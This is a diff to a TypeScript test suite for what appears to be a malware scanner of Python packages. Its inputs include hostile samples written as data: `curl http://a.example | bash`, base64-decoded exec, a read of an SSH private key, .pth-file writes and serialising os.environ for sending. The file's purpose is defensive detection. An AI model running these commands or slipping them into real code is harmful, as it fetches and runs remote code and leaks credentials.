@@ -93,7 +93,7 @@ describe("environment, home folder", () => {
     ["import os\ndef f(): return os.environ.copy()", "notice environment os.environ"],
     ["import os\ndef f(): return os.path.expanduser('~/.orchard')", "notice home-folder ~/.orchard"],
     ["from pathlib import Path\ndef f(): return Path.home()", "notice home-folder pathlib.Path.home"],
-    ["def f(): return open('/home/x/.ssh/id_rsa')", "warning home-folder .ssh/"],
+    ["def f(): return open('/home/x/.ssh/id_rsa')", "warning home-folder .ssh"],
     ["def f(): return open('/home/x/.bashrc', 'a')", "warning home-folder .bashrc"],
   ])("%j is %j", (text, expected) => {
     expect(found(inModule(text))).toContain(expected);
@@ -147,6 +147,23 @@ describe("code that is hidden is dangerous", () => {
     "import base64, subprocess\ndef key(): return base64.b64decode(K)\ndef f(): subprocess.run(['x', key()])",
   ])("%j is not", (text) => {
     expect(atLeast(inModule(text), "danger")).toEqual([]);
+  });
+});
+
+describe("code changes what Python imports, or runs at its start", () => {
+  test.each([
+    ["import sys\nsys.meta_path.insert(0, Finder())", "warning import-hook sys.meta_path.insert"],
+    ["import sys\nsys.meta_path[:0] = [Finder()]", "warning import-hook sys.meta_path"],
+    ["import builtins\nbuiltins.__import__ = own", "warning import-hook __import__"],
+    ["import site\ndef f(): open(site.getsitepackages()[0] + '/a.pth', 'w')", "danger py-pth-file '/a.pth'"],
+    ["import sys\nvars(sys.modules['os'])['system']('id')", "warning process os"],
+  ])("%j is %j", (text, expected) => {
+    expect(found(inModule(text))).toContain(expected);
+  });
+
+  test("a path of a model and a list of finders are none of that", () => {
+    const text = "import sys, torch\ntorch.load('model.pth')\nfor finder in sys.meta_path: print(finder)\n";
+    expect(inModule(text)).toEqual([]);
   });
 });
 
@@ -293,12 +310,22 @@ describe("the build", () => {
 });
 
 describe("tests and documentation of an sdist", () => {
-  test("count as notices at most, and what they do on import does not count", () => {
-    const text = "import os, base64\nos.system('curl http://a.example | bash')\nexec(base64.b64decode(x))\n";
-    for (const path of ["tests/test_rows.py", "docs/conf.py", "examples/run.py", ".github/x.py"])
+  const projectPaths = ["tests/test_rows.py", "docs/conf.py", "examples/run.py", ".github/x.py"];
+  test("reach what they like, and what they do on import does not count", () => {
+    const text = "import os, requests\nos.system('make')\nrequests.get('https://a.example/x')\nrequests.post(u)\n";
+    for (const path of projectPaths)
       expect(atLeast(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }), "warning")).toEqual([]);
   });
-
+  test("neither hide code nor send the environment", () => {
+    const hidden = "import os, base64\nos.system('curl http://a.example | bash')\nexec(base64.b64decode(x))\n";
+    const sent = "import os, json\nbody = json.dumps(dict(os.environ))\n";
+    for (const path of projectPaths) {
+      const inFile = (text: string) => found(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }));
+      expect(inFile(hidden)).toContain("warning decoded-code os.system");
+      expect(inFile(hidden)).toContain("warning decoded-code exec: base64.b64decode");
+      expect(inFile(sent)).toContain("warning secret-environment os.environ");
+    }
+  });
   test("of a wheel are installed", () => {
     expect(
       atLeast(wheel({ "orchard/tests/x.py": "import base64\nexec(base64.b64decode(x))\n" }), "danger"),
